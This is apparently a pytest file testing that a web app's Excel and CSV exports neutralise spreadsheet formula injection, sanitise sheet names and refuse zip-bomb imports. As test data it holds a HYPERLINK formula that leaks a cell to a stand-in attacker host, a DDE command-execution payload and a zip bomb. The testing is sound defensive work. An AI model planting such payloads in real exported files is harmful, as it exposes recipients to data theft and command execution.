"""A download writes text as text: in a workbook a string cell whatever it starts with (a case
title "=HYPERLINK(...)" is no formula), in a CSV a field that would start a formula with a '
before it; a character no worksheet holds (a title stored before titles were checked) does not
fail the download; a case whose title holds / ? [ ] : has its history as a workbook too; an
import that would unpack to a gigabyte is refused at once, nothing stored."""

from __future__ import annotations

import csv
import io
import re
import time

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from engine.usecases import tokens
from engine.usecases.context import SYSTEM
from storage.models import ProcessInstance, User
from tests.unit.test_spreadsheet_safety import zip_bomb
from tests.web.conftest import text_of
from tests.world import session_factory_of, start_review, xlsx_file
from web import exports

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&B3,"详情")'
KEY = "@SUM(1+1)*cmd|' /C calc'!A0"


def xlsx_cells(client, url: str) -> list[list[tuple[str, object]]]:
    """The first worksheet's cells as openpyxl reads them: (data type, value)."""
    response = client.get(url)
    assert response.status_code == 200, url
    sheet = load_workbook(io.BytesIO(response.data)).worksheets[0]
    return [[(c.data_type, c.value) for c in row] for row in sheet.iter_rows()]


def csv_rows(client, url: str) -> list[list[str]]:
    response = client.get(url)
    assert response.status_code == 200, url
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))


def _store(app, case_id: int, **values: str) -> None:
    """A case's title or 编号 as stored by hand (or before the start path checked them)."""
    with session_factory_of(app).begin() as s:
        s.execute(update(ProcessInstance).where(ProcessInstance.id == case_id).values(**values))


def test_a_title_and_a_business_key_that_start_a_formula_are_text_in_every_case_list_download(app, as_user):
    case = start_review(app, "office1", HYPERLINK)
    _store(app, case.id, business_key=KEY)
    client = as_user("office1")
    [header, row] = xlsx_cells(client, "/cases/export.xlsx")
    assert header[:3] == [("s", "案件编号"), ("s", "编号"), ("s", "案件")]
    assert row[:3] == [("n", case.id), ("s", "@SUM(1+1)*cmd|' /C calc'!A0"), ("s", HYPERLINK)]
    rows = csv_rows(client, "/cases/export.csv")
    assert rows[1][:3] == [str(case.id), "'@SUM(1+1)*cmd|' /C calc'!A0", "'" + HYPERLINK]


def test_the_audit_log_writes_a_formula_title_as_text(app, as_user):
    case = start_review(app, "office1", HYPERLINK)
    client = as_user("supervisor")
    [header, row] = xlsx_cells(client, "/audit/export.xlsx?user=office1")
    assert (header[4], row[3], row[4]) == (("s", "案件"), ("n", case.id), ("s", HYPERLINK))
    rows = csv_rows(client, "/audit/export.csv?user=office1")
    assert rows[1][3:5] == [str(case.id), "'" + HYPERLINK]


@pytest.mark.parametrize(
    ("text", "field"),
    [
        ("+86 139", "'+86 139"),
        ("-2+3", "'-2+3"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=b", "a=b"),  # only a start makes a formula
        ("普通标题", "普通标题"),
    ],
)
def test_a_csv_field_that_would_start_a_formula_gets_a_quote_and_numbers_and_dates_do_not(app, text, field):
    with app.test_request_context():
        body = exports.download("t", "csv", ["=h"], [[text, -5, 1.5, None]]).get_data()
    assert list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""))) == [["'=h"], [field, "-5", "1.5", ""]]


def test_a_control_character_in_a_stored_title_fails_no_download(app, as_user):
    case = start_review(app, "office1", "前")
    _store(app, case.id, title="a\x0bb\x01c")  # stored before titles were checked
    client = as_user("office1")
    assert xlsx_cells(client, "/cases/export.xlsx")[1][2] == ("s", "a\ufffdb\ufffdc")
    history = client.get(f"/cases/{case.id}/history.xlsx")
    assert history.status_code == 200
    assert load_workbook(io.BytesIO(history.data)).sheetnames == ["a\ufffdb\ufffdc_办理记录"]
    audit = xlsx_cells(as_user("supervisor"), "/audit/export.xlsx?user=office1")
    assert [row[4] for row in audit if row[3] == ("n", case.id)] == [("s", "a\ufffdb\ufffdc")]


def test_the_history_of_a_case_whose_title_holds_what_no_sheet_name_may_is_a_workbook(app, as_user):
    case = start_review(app, "office1", "2026/2027年度[预算]:建议?")
    response = as_user("office1").get(f"/cases/{case.id}/history.xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    assert book.sheetnames == ["2026／2027年度［预算］：建议？_办理记录"]
    assert book.worksheets[0]["A1"].value == "时间"


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("a\\b*c", "a＼b＊c"),
        ("'引号'", "引号"),
        ("''", "Sheet1"),
        ("x" * 40, "x" * 31),
        ("😀" * 20, "😀" * 15),  # 31 UTF-16 units at most: 15 characters beyond U+FFFF
        ("History", "History_"),  # Excel keeps it for itself
    ],
)
def test_a_sheet_name_is_one_excel_takes(app, title, name):
    with app.test_request_context():
        body = exports.download("t", "xlsx", ["h"], [["x"]], sheet=title).get_data()
    assert load_workbook(io.BytesIO(body)).sheetnames == [name]


def _bearer(app, username: str) -> dict[str, str]:
    with session_factory_of(app).begin() as s:
        return {"Authorization": f"Bearer {tokens.create_token(s, SYSTEM, username, 'tests').secret}"}


def _users(app) -> list[str]:
    with session_factory_of(app)() as s:
        return list(s.scalars(select(User.username).order_by(User.username)))


def test_an_import_that_would_unpack_to_a_gigabyte_is_refused_at_once_and_nothing_stored(app, as_user):
    bomb = zip_bomb(101)  # 101 MB unpacked, its one row a person to create
    client, api_key = as_user("admin"), _bearer(app, "admin")
    before = _users(app)
    started = time.monotonic()
    page = client.post(
        "/admin/imports/people", data={"file": (io.BytesIO(bomb), "名册.xlsx")}, content_type="multipart/form-data"
    )
    api = app.test_client().post(
        "/api/v1/imports/people",
        data={"file": (io.BytesIO(bomb), "名册.xlsx")},
        content_type="multipart/form-data",
        headers=api_key,
    )
    assert time.monotonic() - started < 5  # unpacking it took openpyxl 4 s a time, 24 s at 1 GB
    assert page.status_code == 422
    assert re.findall(r'<p class="field-error"[^>]*>([^<]*)</p>', text_of(page)) == [
        "“名册.xlsx”解压后超过 100 MB，无法读取"
    ]
    assert api.status_code == 422
    assert api.get_json()["fields"] == {"file": "名册.xlsx would unpack to more than 100 MB: too large to read"}
    assert _users(app) == before
    # the same workbook without the padding is imported: the row is a person to create
    small = xlsx_file(("人员", [["用户名*", "姓名*", "角色*"], ["bomb1", "王炸", "人大代表"]], []))
    done = app.test_client().post(
        "/api/v1/imports/people",
        data={"file": (io.BytesIO(small), "名册.xlsx")},
        content_type="multipart/form-data",
        headers=api_key,
    )
    assert done.status_code == 200, done.get_json()
    assert _users(app) == sorted([*before, "bomb1"])
